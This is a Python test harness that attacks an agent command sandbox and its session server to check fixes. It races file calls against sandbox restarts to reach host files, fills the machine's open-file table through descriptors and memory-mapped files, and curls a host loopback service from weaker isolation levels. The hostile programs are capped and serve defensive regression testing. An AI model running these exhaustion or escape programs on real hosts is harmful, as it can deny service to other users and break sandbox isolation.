"""Attacks on a default Sandbox() and on serve's sessions in what session 12 changed and what earlier passes left open (restart windows, machine-wide counts as root), judged on the host; prints JSON."""

# Usage: python _attack12.py PART TOKEN. test_attack12_host.py runs each part as root and
# (runuser) as the unprivileged user. Helpers (Fresh, call, leftovers, main) come from
# _attack9.py, which also gives this process a private TMPDIR before agentic_bash is imported.
# Every hostile program caps itself (counts, seconds), so a run before a fix costs the host
# a bounded share of a count for a few seconds and never takes a whole one.

from __future__ import annotations

import os
import signal
import sys
import textwrap
import threading
import time
from typing import Any, Callable

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from _attack9 import TMP, Fresh, _res, call, leftovers, main  # noqa: E402
from _attack9 import _tree as _tree9  # noqa: E402

import agentic_bash as ab  # noqa: E402

MiB = 1 << 20


def _tree(sb: Any) -> list[int]:
    """Host pids of the sandbox (S1/S2 and below), [] while it is gone or restarting."""
    for _ in range(5):
        try:
            return _tree9(sb)
        except Exception:  # noqa: BLE001 - a process of it went away meanwhile
            time.sleep(0.05)
    return []


# -- part "restart": serve's direct file calls while a session's sandbox restarts -------------
def _gone(pid: int, deadline: float = 10) -> None:
    end = time.monotonic() + deadline
    while time.monotonic() < end:
        try:
            with open(f"/proc/{pid}/stat") as f:
                if f.read().rsplit(")", 1)[1].split()[0] == "Z":
                    return
        except (OSError, IndexError):
            return
        time.sleep(0.01)


def part_restart(token: str) -> dict[str, Any]:
    """serve --sessions answers a file call from the host (hostfiles.py) while a command
    holds the session's lock, reaching the workdir through /proc/<pid>/root of the sandbox's
    first process. A restart (after any crash) holds that lock while the new process starts:
    until its pid 1 pivots, that root is the host's, and "/tmp" was the host's /tmp (before:
    a host file read and a host file written by the server's uid). The crash here comes from
    the host (a SIGKILL of the sandbox) so that each round is one restart."""
    from agentic_bash.server.hostfiles import Upload
    from agentic_bash.server.sessions import ApiError, SessionManager
    name, wname = f"agb12-canary-{token}", f"agb12-written-{token}"
    canary, written = os.path.join("/tmp", name), os.path.join("/tmp", wname)
    secret = f"AGB12-HOST-SECRET-{token}".encode()
    fd = os.open(canary, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
    os.write(fd, secret)
    os.close(fd)
    out: dict[str, Any] = {"rounds": 0, "host_read": 0, "host_written": False,
                           "inside_read": 0, "views": 0, "errors": []}
    mgr = SessionManager(":memory:")
    mgr.start()
    stop = threading.Event()
    pids: list[int] = []
    try:
        sid = mgr.create({"workdir": "/tmp"})["id"]
        lv = mgr._live[sid]
        inside = f"agb12-inside-{token}"
        mgr.exec(sid, f"echo inside > /tmp/{inside}")

        def hammer() -> None:
            while not stop.is_set():
                v = mgr._workdir_view(lv, "/tmp/" + name)
                if v is None:
                    continue
                out["views"] += 1
                files = v[0]
                try:
                    with files:
                        for rel in (name, inside):
                            got = files.open_file(rel)
                            if got is None:
                                continue
                            fd, size = got
                            try:
                                data = os.read(fd, 4096)
                            finally:
                                os.close(fd)
                            if data == secret:
                                out["host_read"] += 1
                            elif data == b"inside\n":
                                out["inside_read"] += 1
                        up = Upload(files, wname)
                        try:
                            up.write(b"written by a client\n")
                            up.commit()
                        finally:
                            up.abort()
                except Exception as e:  # noqa: BLE001
                    if len(out["errors"]) < 5:
                        out["errors"].append(f"{type(e).__name__}: {e}"[:200])
                if out["host_read"] or os.path.exists(written):
                    stop.set()

        t = threading.Thread(target=hammer, daemon=True)
        t.start()
        t0 = time.monotonic()
        while not stop.is_set() and out["rounds"] < 20 and time.monotonic() - t0 < 30:
            out["rounds"] += 1
            pid = lv.sb._ex.pid
            pids += _tree(lv.sb)
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
            _gone(pid)
            for _ in range(3):   # the crash's reply (500), then the restart
                try:
                    mgr.exec(sid, "true")
                    break
                except ApiError as e:
                    if e.status != 500 or "crashed; the next call" not in e.message:
                        out["exec_errors"] = out.get("exec_errors", []) + [e.message[:200]]
        stop.set()
        t.join(10)
        out["wall"] = round(time.monotonic() - t0, 2)
        def after() -> str:
            for _ in range(3):   # (a crash reply still due from the last round: once)
                try:
                    return mgr.exec(sid, f"cat /tmp/{inside}")["stdout"]
                except ApiError as e:
                    out["after_errors"] = out.get("after_errors", []) + [e.message[:200]]
            return ""
        out["after"] = call(after, 60)
        pids += _tree(lv.sb)
    finally:
        stop.set()
        mgr.close()
        out["host_written"] = os.path.exists(written)
        for p in (canary, written):
            try:
                os.unlink(p)
            except OSError:
                pass
    out["left"] = leftovers(pids)
    return out


# -- part "files": the machine's open-file table (fs.file-max), as root too --------------------
FILES_PY = textwrap.dedent(r"""
    import os, resource, sys, time
    want, hold = int(sys.argv[1]), float(sys.argv[2])
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    per = max(1, hard - 64)
    kids = min(64, -(-want // per))
    pids = []
    for k in range(kids):
        pid = os.fork()
        if pid == 0:
            fds = []
            try:
                while len(fds) < min(per, want - k * per):
                    fds.append(os.open("/dev/null", os.O_RDONLY))   # a struct file each
            except OSError:
                pass
            time.sleep(hold)
            os._exit(0)
        pids.append(pid)
    killed = 0
    for pid in pids:
        killed += os.waitpid(pid, 0)[1] & 0x7f == 9
    with open("/tmp/files.done", "w") as f:
        f.write("kids %d killed %d\n" % (kids, killed))
""")


def _file_nr() -> tuple[int, int]:
    with open("/proc/sys/fs/file-nr") as f:
        used = int(f.read().split()[0])
    with open("/proc/sys/fs/file-max") as f:
        return used, int(f.read())


def part_files(token: str) -> dict[str, Any]:
    """32 processes open /dev/null up to their RLIMIT_NOFILE (a quarter of fs.file-max in
    all) and hold it 6 s; the host samples the machine's count from the start until the
    program has seen every child end. Before (root, no watchdog): all of it, 611k."""
    used0, fmax = _file_nr()
    want = fmax // 4
    out: dict[str, Any] = {"file_max": fmax, "want": want, "used_before": used0}
    if want > 64 * 19000:   # (the host's hard RLIMIT_NOFILE: 20,000 here)
        out["skip"] = "a quarter of this host's file-max needs more than 64 processes"
        return out
    fr = Fresh()
    with fr as sb:
        sb.write_file("/tmp/files.py", FILES_PY.encode())
        t0 = time.monotonic()
        sb.run(f"(python3 /tmp/files.py {want} 4 >/dev/null 2>&1 &)", timeout=30)
        # the machine's count moves with every other process on it (other tests, other
        # users: +100k seen): the judge is what the sandbox's own processes hold, counted
        # from the host (their /proc/<pid>/fd), the machine's peak is kept for the record
        peak, own, done, end = used0, 0, "", time.monotonic() + 90
        while time.monotonic() < end:
            peak = max(peak, _file_nr()[0])
            n = 0
            for p in _tree(sb):
                try:
                    n += len(os.listdir(f"/proc/{p}/fd"))
                except OSError:
                    pass
            own = max(own, n)
            done = sb.run("cat /tmp/files.done 2>/dev/null", timeout=30).stdout
            if done:
                break
            time.sleep(0.05)
        out.update(done=done, held_peak=own, machine_peak=peak - used0,
                   wall=round(time.monotonic() - t0, 1))
        out["after"] = call(lambda: sb.run("echo alive", timeout=30).stdout, 60)
    out["left"] = fr.left
    return out


# -- part "level": a client of serve --sessions choosing a weaker level than the server's ------
def part_level(token: str) -> dict[str, Any]:
    """A client creates sessions asking for each level a client may name, on a server with
    the default level (and one with network "deny"), and curls a service on the host's
    loopback from each. Before: "landlock" (no namespaces) was granted, and the host's
    service answered, even under "deny"; host processes were listed too."""
    import socket
    from agentic_bash.server.sessions import ApiError, SessionManager
    secret = f"AGB12-LOOPBACK-{token}"
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(16)
    srv.settimeout(0.5)
    port = srv.getsockname()[1]
    hits: list[Any] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                c, a = srv.accept()
            except OSError:
                continue
            hits.append(a[1])
            try:
                c.sendall(b"HTTP/1.0 200 OK\r\n\r\n" + secret.encode() + b"\n")
            finally:
                c.close()

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    out: dict[str, Any] = {"port": port, "sessions": {}}
    try:
        for name, defaults in (("default", {}), ("deny", {"network": "deny"})):
            mgr = SessionManager(":memory:", sandbox_defaults=defaults)
            mgr.start()
            try:
                for iso in ("auto", "virtual", "namespace", "landlock"):
                    key = f"{name}/{iso}"
                    try:
                        sid = mgr.create({"isolation": iso})["id"]
                    except ApiError as e:
                        out["sessions"][key] = {"refused": e.status}
                        continue
                    except Exception as e:  # noqa: BLE001 - a level this host lacks
                        out["sessions"][key] = {"error": f"{type(e).__name__}: {e}"[:200]}
                        continue
                    r = mgr.exec(sid, f"curl -s --max-time 5 http://127.0.0.1:{port}/; "
                                      "echo; cat /proc/1/cmdline | tr '\\0' ' ' | head -c 80",
                                 timeout=60)
                    out["sessions"][key] = {"stdout": r["stdout"][-300:]}
            finally:
                mgr.close()
    finally:
        stop.set()
        t.join(5)
        srv.close()
    out["host_hits"] = len(hits)
    out["secret_seen"] = [k for k, v in out["sessions"].items() if secret in v.get("stdout", "")]
    out["host_init"] = open("/proc/1/cmdline", "rb").read().replace(b"\0", b" ")[:60].decode(
        "latin-1").strip()
    return out


# -- part "mapfiles": open files held by mappings, with no descriptor --------------------------
MAPFILES_PY = textwrap.dedent(r"""
    import ctypes, os, sys, time
    l = ctypes.CDLL(None, use_errno=True)
    l.mmap.restype = ctypes.c_void_p
    l.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int,
                       ctypes.c_int, ctypes.c_long]
    n, kids, hold = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
    pids = []
    for k in range(kids):
        pid = os.fork()
        if pid == 0:
            made = 0
            for i in range(n):
                fd = os.open("/tmp/x", os.O_RDONLY)        # a struct file each ...
                p = l.mmap(None, 4096, 1, 2, fd, 0)        # ... held by the mapping
                os.close(fd)                               # no descriptor left
                if p in (None, 2**64 - 1):
                    break
                made += 1
            with open("/tmp/mf.%d" % k, "w") as f:
                f.write("%d\n" % made)
            end = time.monotonic() + 90                    # all hold until the parent says
            while not os.path.exists("/tmp/mf.release") and time.monotonic() < end:
                time.sleep(0.1)
            os._exit(0)
        pids.append(pid)
    # every child has reported (or died): then they all hold at once for ``hold`` seconds
    end = time.monotonic() + 90
    while time.monotonic() < end:
        alive = [p for p in pids if os.waitpid(p, os.WNOHANG)[0] == 0]
        if all(os.path.exists("/tmp/mf.%d" % k) for k in range(kids)) or len(alive) < len(pids):
            break
        time.sleep(0.1)
    time.sleep(hold)
    open("/tmp/mf.release", "w").close()
    killed = 0
    for p in pids:
        try:
            killed += os.waitpid(p, 0)[1] & 0x7f == 9
        except ChildProcessError:
            killed += 1   # (reaped above: it died before all had reported)
    made = sum(int(open("/tmp/mf.%d" % k).read()) for k in range(kids)
               if os.path.exists("/tmp/mf.%d" % k))
    with open("/tmp/mf.done", "w") as f:
        f.write("kids %d killed %d made %d\n" % (kids, killed, made))
""")



def part_mapfiles(token: str) -> dict[str, Any]:
    """5 processes each open a file of the sandbox's /tmp 60,000 times, map each 4 KiB and
    close the descriptor, then all hold 3 s at once: 300k struct files of the machine's
    table (fs.file-max) held by mappings, in no descriptor table (the FDSize checks see
    nothing). The program's own count (held at once only if none was killed) is the judge;
    the machine's count (file-nr: other users move it too) is kept for the record."""
    used0, fmax = _file_nr()
    out: dict[str, Any] = {"file_max": fmax, "used_before": used0}
    fr = Fresh()
    with fr as sb:
        sb.write_file("/tmp/mf.py", MAPFILES_PY.encode())
        sb.run("head -c 8192 /dev/zero > /tmp/x", timeout=30)
        t0 = time.monotonic()
        sb.run("(python3 /tmp/mf.py 60000 5 3 >/dev/null 2>&1 &)", timeout=30)
        peak, done = used0, ""
        while time.monotonic() - t0 < 120:
            peak = max(peak, _file_nr()[0])
            done = sb.run("cat /tmp/mf.done 2>/dev/null", timeout=30).stdout
            if done:
                break
            time.sleep(0.1)
        w = done.split()
        out.update(done=done, machine_peak=peak - used0, wall=round(time.monotonic() - t0, 1),
                   killed=int(w[3]) if len(w) > 5 else None,
                   held_at_once=int(w[5]) if len(w) > 5 and w[3] == "0" else 0)
        out["after"] = call(lambda: sb.run("echo alive", timeout=30).stdout, 60)
    out["left"] = fr.left
    return out


PARTS: dict[str, Callable[[str], dict[str, Any]]] = {
    "restart": part_restart, "files": part_files, "level": part_level,
    "mapfiles": part_mapfiles,
}


if __name__ == "__main__":
    main(PARTS)
